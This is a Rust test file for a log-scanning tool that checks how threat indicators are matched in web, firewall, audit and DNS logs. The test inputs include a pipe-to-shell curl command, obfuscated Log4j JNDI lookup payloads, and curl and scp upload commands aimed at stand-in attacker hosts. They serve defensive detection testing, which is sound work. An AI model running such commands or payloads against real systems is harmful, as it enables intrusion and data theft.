//! How indicators are met in what logs make of them: escapes, split fields, user agents, neighbours of addresses.

use std::collections::BTreeMap;

use exfiltrace::indicators::Builder;
use exfiltrace::model::indicator::Indicators;
use exfiltrace::sift::plausible;

use super::indicators::{hits, meets, words};
use super::support::exfiltrace;

/// Whether one address of the list is met and means an address where it stands.
fn means(list: &str, field: Option<&str>, text: &str) -> bool {
    let (set, _) = super::indicators::build(list);
    let met = hits(&set, text.as_bytes());
    met.iter().any(|hit| plausible(set.get(hit.indicator).unwrap().kind, hit, field, text.as_bytes()))
}

#[test]
fn urls_with_escapes_are_read_once() {
    let list = "http://evil.example/a.bin?x=1&y=2";
    for text in [
        r#"{"u":"http:\/\/evil.example\/a.bin?x=1&y=2"}"#,
        r#"{"u":"http:\/\/evil.example\/a.bin?x=1\u0026y=2"}"#,
        r#"{"u":"http:\u002f\u002fEVIL.example:80\u002Fa.bin?x=1&y=2","v":1}"#,
        r#"{"m":"{\"u\":\"http:\\/\\/evil.example\\/a.bin?x=1&y=2\"}"}"#,
        r#""see\nhttp:\/\/evil.example\/a.bin?x=1\u0026y=2\nfor it""#,
        "GET /go?u=http%3A%2F%2Fevil.example%2Fa.bin%3Fx%3D1%26y%3D2&z=1 HTTP/1.1",
        "u%3Dhttp%3a%2f%2fevil.example%3A80%2fa.bin%3Fx%3D1%26y%3D2%20x",
        "u=http%3A%2F%2Fevil.example./a.bin?x=1%26y=2",
        "src=\"//evil.example/a.bin?x=1&y=2\"",
        "http://evil.example./a.bin?x=1&y=2",
    ] {
        assert!(words(list, text).iter().any(|w| w.starts_with("Exact http")), "{text}: {:?}", words(list, text));
    }
    for text in [
        r#"{"u":"http:\/\/evil.example\/a.bin?x=1\u0026y=3"}"#,
        r#"{"u":"http:\/\/evil.example\/"}"#,
        r#"{"u":"https:\/\/evil.example\/a.bin?x=1&y=2"}"#,
        "u=http%3A%2F%2Fevil.example%2Fa.bin%3Fx%3D1&y=2",
        "http://evil.example:8080/a.bin?x=1&y=2",
    ] {
        let words = words(list, text);
        assert!(words.len() == 1 && words[0].starts_with("UrlHost"), "{text}: {words:?}");
    }
    // Another page of the host is no sign of the listed one.
    for text in [
        r#"{"u":"http:\/\/evil.example\/b\/a.bin?x=1&y=2"}"#,
        "u=http%3A%2F%2Fevil.example%2Fb%3Fx%3D1",
        "GET http://evil.example:8080/b HTTP/1.1",
        "see (http://evil.example/b).",
    ] {
        assert!(!meets(list, text), "{text}");
    }
    assert!(
        words("http://evil.example/", "GET http://evil.example/b ")[0].starts_with("UrlHost"),
        "all of it is listed"
    );
    for text in ["<Data>http://evil.example/a.bin?x=1&amp;y=2</Data>", r"request=http://evil.example/a.bin?x\=1&y\=2 x"]
    {
        assert!(words(list, text)[0].starts_with("Exact"), "{text}");
    }
    let script = "http://evil.example/a.sh";
    for text in [
        "curl http://evil.example/a.sh|bash",
        "http://evil.example/a.sh,200,5",
        "?u=http://evil.example/a.sh&k=1",
        "(http://evil.example/a.sh;x",
    ] {
        assert!(words(script, text)[0].starts_with("Exact"), "{text}");
    }
    assert!(!meets(script, "http://evil.example/a.sha") && !meets(script, "http://evil.example/a.sh.bak|"));
    for text in ["/var//evil.example/a.bin?x=1&y=2", r"\/var\/evil.example\/a.bin", "%2Fvar%2Fevil.example%2Fa.bin"] {
        assert!(!meets(list, text), "{text}");
    }
    let by_number = "http://203.0.113.4:8080/x";
    for text in [r#""http:\/\/203.0.113.4:8080\/x""#, "u=http%3A%2F%2F203.0.113.4%3A8080%2Fx&b"] {
        assert!(words(by_number, text)[0].starts_with("Exact"), "{text}");
    }
}

#[test]
fn urls_of_names_in_both_forms() {
    let list = "http://bücher.example/a\nbob@bücher.example";
    assert!(words(list, "GET http://BÜCHER.example/a ")[0].starts_with("Exact http"));
    assert!(words(list, "GET http://xn--bcher-kva.example/a ")[0].starts_with("Exact http"));
    assert_eq!(words(list, "to <Bob@bücher.example>").len(), 1);
    assert!(!meets(list, "bob@www.bücher.example") && !meets(list, "http://notbücher.example/a"));
}

#[test]
fn a_name_and_password_before_a_host_are_a_part_of_its_url() {
    let url = "http://bad.example.net/gate.php";
    for (list, text, expected) in [
        (url, "GET http://user:pw@bad.example.net/gate.php", "Exact http://user:pw@bad.example.net/gate.php"),
        (url, r#"{"u":"http:\/\/user@bad.example.net\/gate.php"}"#, r"Exact http:\/\/user@bad.example.net\/gate.php"),
        (url, "http://a:b%2Fc%40d@bad.example.net/gate.php?x", "UrlHost bad.example.net"),
        ("http://203.0.113.7/a", "http://u:p@203.0.113.7/a", "Exact http://u:p@203.0.113.7/a"),
        ("bad.example.net", "http://user:pw@bad.example.net/x", "Exact bad.example.net"),
        ("bad.example.net", "mail to user@bad.example.net", "EmailDomain bad.example.net"),
        ("bad.example.net", "http://a.example/?m=user@bad.example.net", "EmailDomain bad.example.net"),
    ] {
        let found: Vec<String> =
            words(list, text).iter().map(|hit| hit.replacen(&format!(" {list} "), " ", 1)).collect();
        assert_eq!(found, [expected], "{list} in {text}");
    }
    for text in ["user@bad.example.net/gate.php", "http://a.example/user@bad.example.net/gate.php"] {
        assert_eq!(words(url, text), [] as [&str; 0], "{text}");
    }
}

#[test]
fn lookups_of_log4j_name_their_server() {
    let list = "ldap://203.0.113.4:1389/a\n203.0.113.4";
    for text in [
        "${jndi:ldap://203.0.113.4:1389/a}",
        "${jndi:${lower:l}${lower:d}a${lower:p}://203.0.113.4:1389/a}",
        "${${::-j}ndi:${lower:l}dap://203.0.113.4:1389/a}",
        "q=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.4%3A1389%2Fa%7D",
        r#""ua":"${jndi:ldap:\/\/203.0.113.4:1389\/a}""#,
    ] {
        assert_eq!(words(list, text).iter().filter(|w| w.starts_with("Exact")).count(), 2, "{text}");
        assert!(means("203.0.113.4", Some("user_agent.original"), text), "{text}");
    }
    assert!(!words(list, "${jndi:rmi://203.0.113.4:1389/a}").iter().any(|w| w.starts_with("Exact ldap")));
    assert!(meets("evil.example", "${jndi:${lower:d}ns://a.evil.example/x}"));
}

#[test]
fn mail_addresses_with_escapes() {
    let list = "user@evil.example";
    for text in [
        "login=user%40evil.example&x",
        "mailto%3Auser%40evil.example",
        r#""user\u0040evil.example""#,
        "%3Cuser@evil.example%3E",
        "us%65r%40evil.example",
    ] {
        assert_eq!(words(list, text).len(), 1, "{text}");
    }
    for text in ["xuser%40evil.example", "user%40a.evil.example", "user%2Bx%40evil.example", "%40evil.example"] {
        assert!(!meets(list, text), "{text}");
    }
    assert_eq!(words("evil.example", "user%40evil.example"), ["EmailDomain evil.example evil.example"]);
    assert_eq!(words("evil.example", "=%40evil.example"), ["Exact evil.example evil.example"]);
    assert!(!meets("evil.example", "evil.example%40other.test"), "a local part is no domain");
}

#[test]
fn digests_and_files_behind_an_escape() {
    let digest = "0123456789abcdef0123456789abcde0";
    for lead in ["md5%3D", "md5\\u003d", "md5\\x3d", "%20"] {
        assert!(meets(digest, &format!("{lead}{digest}&")), "{lead}");
    }
    for lead in ["3D", "%3D1", "u003d", "a"] {
        assert!(!meets(digest, &format!("{lead}{digest}&")), "{lead}");
    }
    let mut builder = Builder::new();
    let bundle = r#"{"type":"bundle","objects":[{"type":"indicator","pattern":"[file:name = 'bad tool.exe']"},
        {"type":"indicator","pattern":"[file:path = '\\\\Device\\\\HarddiskVolume2\\\\Temp\\\\x.dll']"},
        {"type":"indicator","pattern":"[file:path = '/tmp/Drop.so']"}]}"#;
    builder.add("b.json", "00", bundle.as_bytes());
    let (set, refused) = builder.finish();
    assert_eq!(refused, []);
    for text in [
        "GET /bad%20tool.exe HTTP/1.1",
        "f=%2Fa%2Fbad%20tool.exe&",
        "C:\\Temp\\x.dll",
        "\\Device\\HarddiskVolume3\\Temp\\X.dll",
        r"\\Device\\HarddiskVolume12\\temp\\x.dll",
        "\\\\?\\C:\\Temp\\x.dll",
        "c:/temp/x.dll",
        "p=C%3A%5CTemp%5Cx.dll",
        r#""\/tmp\/Drop.so""#,
    ] {
        assert_eq!(hits(&set, text.as_bytes()).len(), 1, "{text}");
    }
    for text in
        ["my%20bad tool.exe.x", "/xbad%20tool.exe", "C:\\a\\Temp\\x.dll", "\\Volume3\\Temp\\x.dll", "/a/tmp/Drop.so"]
    {
        assert_eq!(hits(&set, text.as_bytes()).len(), 0, "{text}");
    }
}

#[test]
fn ipv6_behind_a_word() {
    let list = "2001:db8::1\nfe01::a";
    for text in [
        "client:2001:db8::1",
        "src:2001:db8:0:0:0:0:0:1 x",
        "src=2001:db8::1",
        "[2001:db8::1]:443",
        "client:[2001:db8::1%eth0]:443",
        "OUTSIDE:2001:db8::1/443",
        "fe01::a%25eth0",
        r"x\nfe01::a",
        r#"ip\u003dfe01::a"#,
        "ip%3Dfe01::a%20",
        "http://%5Bfe01::a%5D/",
        "client_ip:fe01::a,",
    ] {
        assert_eq!(words(list, text).len(), 1, "{text}");
    }
    for text in [
        "12001:db8::1",
        "dead:2001:db8::1",
        "client:12001:db8::1",
        "client:2001:db8::1f",
        "time:10:20:30",
        "mac:00:1a:2b:3c:4d:5e",
        "std::fe01::a",
    ] {
        assert!(!meets(list, text), "{text}");
    }
    // Short networks would show a clock or a hardware address that is read as an address.
    for text in ["client:10:20:30", "hw:20:01:0d:b8:00:01", "at:20:01:0d", "to::1"] {
        assert!(!meets("2000::/16\n20::/16\n10::/16\n2001::/16", text), "{text}");
    }
}

#[test]
fn addresses_of_firewalls_are_no_versions() {
    for text in [
        "access-list A permitted tcp OUTSIDE/203.0.113.4(443) -> inside/10.0.0.1(80)",
        "Outside/203.0.113.4(443)",
        "outside:203.0.113.4/443",
        "203.0.113.4(443)",
        "for Outside:203.0.113.4/443 (203.0.113.4/443)",
        "ip=203.0.113.4",
        "/203.0.113.4/",
        "GET /203.0.113.4 HTTP/1.1",
        "host/203.0.113.4",
        "curl/203.0.113.4",
        "TERMSRV/203.0.113.4",
        "Desktop/203.0.113.4:5000",
        "\"Chrome/1.2.3.4\" 203.0.113.4",
        "a /x/Name/203.0.113.4",
    ] {
        assert!(means("203.0.113.4", None, text), "{text}");
    }
    for text in [
        "Chrome/203.0.113.4",
        r"Chrome\/203.0.113.4",
        "Chrome%2F203.0.113.4",
        "v203.0.113.4",
        "(YaBrowser/203.0.113.4 Safari/1)",
        "203.0.113.4.5",
    ] {
        assert!(!means("203.0.113.4", None, text), "{text}");
    }
    for text in ["curl/203.0.113.4", "bot 203.0.113.4", "okhttp/203.0.113.4:1"] {
        assert!(!means("203.0.113.4", Some("user_agent.original"), text), "{text}");
    }
}

#[test]
fn names_in_paths_are_files_and_behind_slashes_hosts() {
    for text in [
        "http://evil.zip/a",
        r"http:\/\/evil.zip\/a",
        "u=%2F%2Fevil.zip%2F",
        r"\\evil.zip\a",
        "evil.zip",
        r#""\\\\evil.zip\\a""#,
    ] {
        assert!(means("evil.zip", None, text), "{text}");
    }
    for text in ["/tmp/evil.zip", r"\/tmp\/evil.zip", "%2Ftmp%2Fevil.zip", r"C:\tmp\evil.zip", r#""C:\\tmp\\evil.zip""#]
    {
        assert!(!means("evil.zip", None, text), "{text}");
    }
}

#[test]
fn names_of_hosts_in_commands_and_names_of_files_in_fields_of_files() {
    let command = Some("process.command_line");
    for (list, field, text) in [
        ("evil.com", command, "curl -T a https://drop.evil.com/up"),
        ("evil.com", command, "curl -T a evil.com"),
        ("evil.com", command, "ssh root@evil.com"),
        ("evil.sh", command, "scp a b@evil.sh:/tmp"),
        ("evil.sh", command, "curl evil.sh/up"),
        ("evil.sh", command, "curl -T a evil.sh:8443"),
        ("evil.com", Some("requestObject.spec.containers.image"), r#""image":"evil.com\/tool:1""#),
        ("evil.com", Some("FileOriginUrl"), "https://evil.com/a.iso"),
        ("evil.com", Some("profile"), "evil.com"),
        ("evil.sh", Some("dns.question.name"), "evil.sh"),
    ] {
        assert!(means(list, field, text), "{field:?} {text}");
    }
    for (list, field, text) in [
        ("evil.com", command, r"C:\tmp\evil.com /c dir"),
        ("evil.sh", command, "bash evil.sh"),
        ("evil.com", Some("process.name"), "evil.com"),
        ("evil.com", Some("TargetFilename"), "evil.com"),
        ("evil.zip", Some("FilePaths"), "evil.zip"),
    ] {
        assert!(!means(list, field, text), "{field:?} {text}");
    }
    assert!(means("203.0.113.4", Some("conversion_ip"), "203.0.113.4"));
    for field in [
        "cs(User-Agent)",
        "userAgent",
        "http_user_agent",
        "fileVersion",
        "app_version",
        "useragent",
        "OSVersion",
        "HTTPUserAgent",
        "clientversion",
    ] {
        assert!(!means("203.0.113.4", Some(field), "203.0.113.4"), "{field}");
    }
}

fn agents(list: &[&str]) -> Indicators {
    let rows: String = list.iter().map(|agent| format!("{agent}\tIntel::SOFTWARE\n")).collect();
    let mut builder = Builder::new();
    builder.add("i", "0", format!("#fields\tindicator\tindicator_type\n{rows}").as_bytes());
    let (set, refused) = builder.finish();
    assert_eq!(refused, []);
    set
}

#[test]
fn user_agents_in_text_are_whole() {
    let set = agents(&["EvilBot/1.0 (x)", "curl/7.evil"]);
    for text in [
        r#""EvilBot/1.0 (x)""#,
        r#"{"ua":"EvilBot\/1.0 (x)"}"#,
        r#"{"m":"{\"ua\":\"EvilBot/1.0 (x)\",\"b\":1}"}"#,
        r#"{"m":"{\"ua\": \"EvilBot\\/1.0 (x)\"}"}"#,
        r#""EvilBot/1.0 \u0028x)""#,
        "10:00:00 GET / EvilBot/1.0+(x) 200",
        "a\tEvilBot/1.0 (x)\tb",
        "GET / HTTP/1.1\r\nUser-Agent: EvilBot/1.0 (x)\r\nHost: a\r\n",
        "user-agent:curl/7.evil",
    ] {
        assert_eq!(hits(&set, text.as_bytes()).len(), 1, "{text}");
    }
    for text in [
        r#""Foo \"EvilBot/1.0 (x)\" bar""#,
        r#""Foo \"EvilBot/1.0 (x)""#,
        r#""Foo ""EvilBot/1.0 (x)"" bar""#,
        "x:\\\"EvilBot/1.0 (x)\\\"\n, y",
        "10:00:00 GET / EvilBot/1.0+(x)+more 200",
        "GET / Mozilla+EvilBot/1.0+(x) 200",
        "Mozilla/5.0 curl/7.evil more",
        "\"evilbot/1.0 (x)\"",
        "User-Agent: EvilBot/1.0 (x) more\n",
    ] {
        assert_eq!(hits(&set, text.as_bytes()).len(), 0, "{text}");
    }
}

#[test]
fn wildcards_of_user_agents_are_refused() {
    let mut builder = Builder::new();
    builder.add("i", "0", b"#fields\tindicator\tindicator_type\n*EvilBot/1.0*\tIntel::SOFTWARE\n");
    let (set, refused) = builder.finish();
    assert_eq!((set.list.len(), refused.len()), (0, 1));
}

/// Logs by name: head, a line that shows all that is listed, a line that is near to it.
const LOGS: &[(&str, &str, &str, &str)] = &[
    (
        "iis.log",
        "#Software: Microsoft Internet Information Services 10.0\n#Date: 2026-03-28 10:00:00\n\
         #Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs(User-Agent) cs-host sc-status\n",
        "2026-03-28 10:00:00 192.0.2.1 GET /a.bin x=1 8080 198.51.100.7 EvilBot/1.0+(x) evil.example 200\n",
        "2026-03-28 10:00:00 192.0.2.1 GET /a.bin x=2 8080 198.51.100.7 EvilBot/1.0+(x)+y evil.example 200\n",
    ),
    (
        "vhost.log",
        "",
        "evil.example:80 198.51.100.7 - - [28/Mar/2026:10:00:00 +0000] \"GET /a.bin?x=1 HTTP/1.1\" 200 5 \"-\" \"EvilBot/1.0 (x)\"\n",
        "evil.example:80 198.51.100.7 - - [28/Mar/2026:10:00:00 +0000] \"GET /b?x=1 HTTP/1.1\" 200 5 \"-\" \"a \\\"EvilBot/1.0 (x)\\\"\"\n",
    ),
    (
        "zeek.log",
        "#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n#path\thttp\n\
         #fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tmethod\thost\turi\tuser_agent\tstatus_code\n\
         #types\ttime\tstring\taddr\tport\taddr\tport\tstring\tstring\tstring\tstring\tcount\n",
        "1774692000.5\tC1\t198.51.100.7\t4000\t192.0.2.1\t80\tGET\tevil.example\t/a.bin?x=1\tEvilBot/1.0 (x)\t200\n",
        "1774692000.5\tC1\t198.51.100.7\t4000\t192.0.2.1\t80\tGET\tevil.example\t/a.bin\tEvilBot/1.0 (x) y\t200\n",
    ),
    (
        "eve.json",
        "",
        "{\"timestamp\":\"2026-03-28T10:00:00.000000+0000\",\"event_type\":\"http\",\"src_ip\":\"198.51.100.7\",\"dest_ip\":\"192.0.2.1\",\"http\":{\"hostname\":\"evil.example\",\"url\":\"\\/a.bin?x=1\",\"http_user_agent\":\"EvilBot\\/1.0 (x)\",\"http_method\":\"GET\",\"status\":200}}\n",
        "{\"timestamp\":\"2026-03-28T10:00:00.000000+0000\",\"event_type\":\"http\",\"src_ip\":\"198.51.100.7\",\"dest_ip\":\"192.0.2.1\",\"http\":{\"hostname\":\"evil.example\",\"url\":\"\\/a.bin?x=1\\u0026y\",\"http_user_agent\":\"a \\\"EvilBot\\/1.0 (x)\\\"\",\"http_method\":\"GET\",\"status\":200}}\n",
    ),
];

/// Logs that tell a URL in parts and no user agent.
const PARTS: &[(&str, &str, &str, &str)] = &[
    (
        "ecs.json",
        "",
        "{\"@timestamp\":\"2026-03-28T10:00:00Z\",\"url\":{\"scheme\":\"http\",\"domain\":\"evil.example\",\"path\":\"/a.bin\",\"query\":\"x=1\"}}\n",
        "{\"@timestamp\":\"2026-03-28T10:00:00Z\",\"url\":{\"scheme\":\"https\",\"domain\":\"evil.example\",\"path\":\"/a.bin\",\"query\":\"x=1\"}}\n",
    ),
    (
        "export.csv",
        "timestamp,c_ip,cs_method,cs_host,cs_uri_stem,cs_uri_query\n",
        "2026-03-28T10:00:00Z,198.51.100.7,GET,evil.example,/a.bin,x=1\n",
        "2026-03-28T10:00:00Z,198.51.100.7,GET,evil.example:8080,/a.bin,x=1\n",
    ),
    (
        "nginx.json",
        "",
        "{\"time\":\"2026-03-28T10:00:00Z\",\"remote_addr\":\"198.51.100.7\",\"host\":\"evil.example\",\"request\":\"GET /a.bin?x=1 HTTP/1.1\",\"status\":200}\n",
        "{\"time\":\"2026-03-28T10:00:00Z\",\"remote_addr\":\"198.51.100.7\",\"host\":\"evil.example\",\"request\":\"GET /A.bin?x=1 HTTP/1.1\",\"status\":200}\n",
    ),
];

/// Logs without a host, for user agents in bare cells.
const BARE: &[(&str, &str, &str, &str)] = &[
    (
        "table.csv",
        "timestamp,client ip,user agent,status code\n",
        "2026-03-28T10:00:00Z,198.51.100.7,EvilBot/1.0 (x),200\n",
        "2026-03-28T10:00:00Z,198.51.100.7,EvilBot/1.0 (x) y,200\n",
    ),
    (
        "pairs.log",
        "",
        "date=2026-03-28 time=10:00:00 srcip=198.51.100.7 user_agent=EvilBot/1.0 (x) action=accept\n",
        "date=2026-03-28 time=10:00:00 srcip=198.51.100.7 user_agent=EvilBot/1.0 (x) y action=accept\n",
    ),
];

/// More of them: with the escapes of a URL, and a second field of the kind.
const SPELLED: &[(&str, &str, &str, &str)] = &[
    (
        "edge.log",
        "#Version: 1.0\n#Fields: date time x-edge sc-bytes c-ip cs-method cs-uri-stem sc-status cs(User-Agent)\n",
        "2026-03-28 10:00:00 FRA2 5 198.51.100.7 GET /b 200 EvilBot/1.0%20(x)\n",
        "2026-03-28 10:00:00 FRA2 5 198.51.100.7 GET /b 200 EvilBot/1.0%20(x)%20y\n",
    ),
    (
        "twice.json",
        "",
        "{\"time\":\"2026-03-28T10:00:00Z\",\"user_agent\":\"proxy\",\"http_user_agent\":\"EvilBot/1.0 (x)\",\"method\":\"GET\"}\n",
        "{\"time\":\"2026-03-28T10:00:00Z\",\"user_agent\":\"proxy\",\"http_user_agent\":\"EvilBot/1.0\",\"method\":\"GET\"}\n",
    ),
];

/// How often what was met how, by source and kind.
type Met = BTreeMap<(String, String, String), u64>;

/// Scans the logs, each with one line in ten of its kind and the others filled with what is near to it.
fn scanned(cell_bytes: &str, threads: &str) -> (Met, Vec<u8>) {
    let temp = tempfile::tempdir().unwrap();
    let path = |name: &str| temp.path().join(name).to_str().unwrap().to_owned();
    std::fs::create_dir(path("logs")).unwrap();
    for (name, head, hit, near) in LOGS.iter().chain(PARTS).chain(BARE).chain(SPELLED) {
        let lines: String = (0..200).map(|n| if n % 10 == 3 { *hit } else { *near }).collect();
        std::fs::write(path(&format!("logs/{name}")), format!("{head}{lines}")).unwrap();
    }
    let feed = "#fields\tindicator\tindicator_type\nEvilBot/1.0 (x)\tIntel::SOFTWARE\n\
        http://evil.example/a.bin?x=1\tIntel::URL\n";
    std::fs::write(path("feed.txt"), feed).unwrap();
    let (logs, feed, case) = (path("logs"), path("feed.txt"), path("case"));
    let args = [
        "scan",
        "-q",
        &logs,
        "--indicators",
        &feed,
        "--out",
        &case,
        "--x-cell-bytes",
        cell_bytes,
        "--threads",
        threads,
    ];
    let output = exfiltrace(&args);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let findings = std::fs::read(path("case/findings.jsonl")).unwrap();
    let mut met = Met::new();
    for line in findings.split(|b| *b == b'\n').filter(|line| !line.is_empty()) {
        let finding: serde_json::Value = serde_json::from_slice(line).unwrap();
        let text = |pointer: &str| finding.pointer(pointer).and_then(|v| v.as_str()).unwrap_or("").to_owned();
        if finding["kind"] == "indicator" {
            let key = (text("/evidence/0/source"), text("/indicator/kind"), text("/indicator/match"));
            *met.entry(key).or_default() += finding["count"].as_u64().unwrap();
        }
    }
    (met, findings)
}

#[test]
fn split_urls_and_user_agents_of_every_format_are_whole_on_every_grid() {
    let (met, findings) = scanned("262144", "1");
    let mut expected = Met::new();
    for (name, ..) in LOGS.iter().chain(PARTS) {
        expected.insert((format!("logs/{name}"), "url".into(), "exact".into()), 20);
        // The others name another page of the host.
        if !matches!(*name, "vhost.log" | "nginx.json") {
            expected.insert((format!("logs/{name}"), "url".into(), "url_host".into()), 180);
        }
    }
    for (name, ..) in LOGS.iter().chain(BARE).chain(SPELLED) {
        expected.insert((format!("logs/{name}"), "user_agent".into(), "exact".into()), 20);
    }
    assert_eq!(met, expected);
    for (cell_bytes, threads) in [("4096", "2"), ("10000", "3")] {
        assert_eq!(scanned(cell_bytes, threads).1, findings, "cells of {cell_bytes} bytes");
    }
}

/// Logs whose fields say an address or a name that their bytes do not show, each in one record.
const HIDDEN: &[(&str, &str)] = &[
    (
        "tcpdump-syslog.log",
        "Mar 28 23:10:00 gw1 sshd[7]: Accepted password for a from 10.0.0.5 port 1 ssh2\n\
         Mar 28 23:10:04 gw1 tcpdump[99]: 2026-03-28 23:10:04.550475 IP 10.0.0.5.43436 > 203.0.113.7.443: Flags [P.], length 512\n",
    ),
    (
        "audit.log",
        "type=PROCTITLE msg=audit(1774692000.120:1): proctitle=6375726C002D5400612E7A697000687474703A2F2F3230332E302E3131332E37\n\
         type=EXECVE msg=audit(1774692001.120:2): argc=2 a0=\"echo\" a1=\"203.0.113.8\"\n",
    ),
    (
        "syslog.log",
        "Mar 28 10:00:00 h audispd: type=PROCTITLE msg=audit(1774692000.120:1): proctitle=6375726C003230332E302E3131332E37\n\
         Mar 28 10:00:01 h cron[1]: run\n",
    ),
    (
        "arguments.log",
        "type=EXECVE msg=audit(1774692001.120:3): argc=3 a0=\"curl\" a1=\"Chrome/203.0.113.7\" a2=7820203230332E302E3131332E37\n",
    ),
    (
        "container.json",
        "{\"log\":\"type=PROCTITLE msg=audit(1774692000.120:1): proctitle=6375726C003230332E302E3131332E37\\n\",\"stream\":\"stdout\",\"time\":\"2026-03-28T10:00:00Z\"}\n",
    ),
    (
        "capture.txt",
        "2026-03-28 10:00:00.000001 IP 10.0.0.5.51000 > 203.0.113.7.443: Flags [P.], seq 1:9, ack 1, win 64, length 8\n\
         2026-03-28 10:00:00.000002 IP 10.0.0.5.51000 > 203.0.113.70.443: Flags [P.], seq 1:9, ack 1, win 64, length 8\n",
    ),
    (
        "dns.log",
        "3/28/2026 10:00:01 AM 0A1C PACKET  00000000D1B01120 UDP Rcv 10.0.0.5        0001   Q [0001   D   NOERROR] A      (3)www(4)evil(7)example(0)\n\
         3/28/2026 10:00:02 AM 0A1C PACKET  00000000D1B01120 UDP Rcv 10.0.0.5        0002   Q [0001   D   NOERROR] A      (3)www(7)example(0)\n",
    ),
];

#[test]
fn what_fields_say_and_bytes_do_not_show_is_met_once() {
    for more in [&[][..], &["--hits-only"][..]] {
        let temp = tempfile::tempdir().unwrap();
        let path = |name: &str| temp.path().join(name).to_str().unwrap().to_owned();
        std::fs::create_dir(path("logs")).unwrap();
        for (name, text) in HIDDEN {
            std::fs::write(path(&format!("logs/{name}")), text).unwrap();
        }
        std::fs::write(path("feed.txt"), "203.0.113.7\nevil.example\n").unwrap();
        let (logs, feed, case) = (path("logs"), path("feed.txt"), path("case"));
        let args = ["scan", "-q", &logs, "--no-builtin", "--indicators", &feed, "--out", &case];
        let output = exfiltrace(&[&args[..], more].concat());
        assert!(output.status.code().is_some_and(|code| code < 2), "{}", String::from_utf8_lossy(&output.stderr));
        let mut met = BTreeMap::new();
        for line in std::fs::read_to_string(path("case/findings.jsonl")).unwrap().lines() {
            let finding: serde_json::Value = serde_json::from_str(line).unwrap();
            let text = |pointer: &str| finding.pointer(pointer).and_then(|v| v.as_str()).unwrap_or("").to_owned();
            assert_eq!(met.insert(text("/evidence/0/source"), finding["count"].as_u64()), None, "{line}");
        }
        let expected = HIDDEN.iter().map(|(name, _)| (format!("logs/{name}"), Some(1)));
        assert_eq!(met, expected.collect(), "{more:?}");
    }
}
